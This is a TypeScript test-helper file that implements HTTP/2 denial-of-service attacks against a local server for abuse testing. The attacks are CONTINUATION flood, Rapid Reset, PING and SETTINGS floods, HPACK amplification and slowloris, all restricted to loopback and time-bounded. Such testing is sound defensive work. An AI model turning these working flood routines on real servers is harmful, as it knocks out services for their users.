/**
 * Raw-socket HTTP/2 attackers for the abuse tests: each speaks just enough HTTP/2 to reach the
 * weakness it probes (issue 18), for a bounded time, on loopback only.
 */
import net from 'node:net';
import {
  CLIENT_PREFACE, ErrorCode, Flag, FrameReader, FrameType, SettingsId, encodeFrame, encodeSettings, encodeU32Frame,
} from '../../src/http2/frames.js';
import { encodeHeaderBlock, intLength, writeInt, type HeaderField } from '../../src/http2/hpack.js';

export interface AttackResult {
  /** Octets we wrote / the server sent us (0 when we did not read). */
  sent: number;
  received: number;
  /** The server's GOAWAY code, if we read one. */
  goaway: number | null;
  /** The server closed or reset the connection before the time was up. */
  closedByServer: boolean;
  ms: number;
}

const HOST = '127.0.0.1';
const HELLO = Buffer.concat([CLIENT_PREFACE, encodeFrame(FrameType.SETTINGS, 0, 0)]);

/** Fixed request fields (method, scheme, content-type), literals without indexing. */
function requestFields(path: string): HeaderField[] {
  return [
    [':method', 'POST'],
    [':scheme', 'http'],
    [':path', path],
    ['content-type', 'application/grpc'],
  ];
}

/**
 * Connects, writes `first`, then writes `next()` chunks as fast as the socket takes them (waiting
 * for 'drain' like any client, so our own memory stays small) until `ms` passed or the server
 * closed. `read`: parse what the server sends (GOAWAY code, octets); otherwise never read.
 */
export function flood(port: number, opts: { first: Buffer; next?: () => Buffer; ms: number; read: boolean }): Promise<AttackResult> {
  return new Promise((resolve) => {
    const t0 = performance.now();
    const result: AttackResult = { sent: 0, received: 0, goaway: null, closedByServer: false, ms: 0 };
    const socket = net.connect({ host: HOST, port });
    let over = false;
    const finish = (byServer: boolean): void => {
      if (over) return;
      over = true;
      clearTimeout(timer);
      result.closedByServer = byServer;
      result.ms = performance.now() - t0;
      socket.destroy();
      resolve(result);
    };
    const timer = setTimeout(() => finish(false), opts.ms);
    if (opts.read) {
      const reader = new FrameReader((type, _flags, _id, p) => {
        if (type === FrameType.GOAWAY && p.length >= 8) result.goaway = p.readUInt32BE(4);
      }, { maxFrameSize: 1 << 24 });
      socket.on('data', (d: Buffer) => {
        result.received += d.length;
        reader.push(d);
      });
      socket.on('end', () => finish(true));
    } else {
      socket.pause();
    }
    socket.on('error', () => finish(true));
    socket.on('close', () => finish(true));
    const pump = (): void => {
      while (!over && opts.next) {
        const chunk = opts.next();
        result.sent += chunk.length;
        if (!socket.write(chunk)) {
          socket.once('drain', pump);
          return;
        }
      }
    };
    socket.once('connect', () => {
      result.sent += opts.first.length;
      socket.write(opts.first);
      pump();
    });
  });
}

function repeat(frame: Buffer, count: number): Buffer {
  return Buffer.concat(new Array<Buffer>(count).fill(frame));
}

/** CVE-2024-27316: HEADERS without END_HEADERS, then empty CONTINUATION frames forever. */
export function continuationFlood(port: number, ms: number): Promise<AttackResult> {
  const block = encodeHeaderBlock(requestFields('/x.Y/Z'));
  const chunk = repeat(encodeFrame(FrameType.CONTINUATION, 0, 1), 4096);
  return flood(port, { first: Buffer.concat([HELLO, encodeFrame(FrameType.HEADERS, 0, 1, block)]), next: () => chunk, ms, read: true });
}

/** PINGs from a client that never reads the acks. */
export function pingFlood(port: number, ms: number): Promise<AttackResult> {
  const chunk = repeat(encodeFrame(FrameType.PING, 0, 0, Buffer.alloc(8)), 4096);
  return flood(port, { first: HELLO, next: () => chunk, ms, read: false });
}

/** SETTINGS from a client that never reads the acks. */
export function settingsFlood(port: number, ms: number): Promise<AttackResult> {
  const chunk = repeat(encodeFrame(FrameType.SETTINGS, 0, 0, encodeSettings([[SettingsId.INITIAL_WINDOW_SIZE, 65_535]])), 4096);
  return flood(port, { first: HELLO, next: () => chunk, ms, read: false });
}

/**
 * Unknown-method amplification: a long :path enters the HPACK dynamic table once (literal with
 * incremental indexing), then each request names it with one octet (index 62); a server that
 * echoes the path answers kilobytes to a few octets. Reads, to count what comes back.
 */
export function unknownMethodFlood(port: number, ms: number, pathLength = 4000): Promise<AttackResult> {
  const path = `/${'x'.repeat(pathLength - 1)}`;
  const fixed = encodeHeaderBlock([
    [':method', 'POST'],
    [':scheme', 'http'],
    ['content-type', 'application/grpc'],
  ]);
  // :path (static index 4) as a literal with incremental indexing: 01 prefix, 6-bit name index.
  const indexed = Buffer.allocUnsafe(1 + intLength(path.length, 7) + path.length);
  let pos = writeInt(indexed, 0, 0x40, 6, 4);
  pos = writeInt(indexed, pos, 0x00, 7, path.length);
  indexed.write(path, pos, 'latin1');
  const flags = Flag.END_HEADERS | Flag.END_STREAM;
  let id = 1;
  const first = Buffer.concat([HELLO, encodeFrame(FrameType.HEADERS, flags, id, Buffer.concat([fixed, indexed]))]);
  const again = Buffer.concat([fixed, Buffer.from([0x80 | 62])]); // indexed field 62: the path
  return flood(port, {
    first,
    next: () => {
      const frames: Buffer[] = [];
      for (let i = 0; i < 256; i++) frames.push(encodeFrame(FrameType.HEADERS, flags, (id += 2), again));
      return Buffer.concat(frames);
    },
    ms,
    read: true,
  });
}

/** CVE-2023-44487: open a stream of a real method and reset it at once, over and over. */
export function rapidReset(port: number, path: string, ms: number): Promise<AttackResult> {
  const block = encodeHeaderBlock(requestFields(path));
  let id = -1;
  return flood(port, {
    first: HELLO,
    next: () => {
      const frames: Buffer[] = [];
      for (let i = 0; i < 256; i++) {
        id += 2;
        frames.push(encodeFrame(FrameType.HEADERS, Flag.END_HEADERS, id, block), encodeU32Frame(FrameType.RST_STREAM, id, ErrorCode.CANCEL));
      }
      return Buffer.concat(frames);
    },
    ms,
    read: true,
  });
}

/** Slowloris: `count` connections that send one octet of the preface and then nothing; resolves with how many the server closed in `ms`. */
export function slowloris(port: number, count: number, ms: number): Promise<number> {
  return new Promise((resolve) => {
    const sockets: net.Socket[] = [];
    let closed = 0;
    for (let i = 0; i < count; i++) {
      const s = net.connect({ host: HOST, port }, () => s.write(CLIENT_PREFACE.subarray(0, 1)));
      s.on('error', () => {});
      s.on('close', () => closed++);
      s.resume();
      sockets.push(s);
    }
    setTimeout(() => {
      const n = closed;
      for (const s of sockets) s.destroy();
      resolve(n);
    }, ms);
  });
}
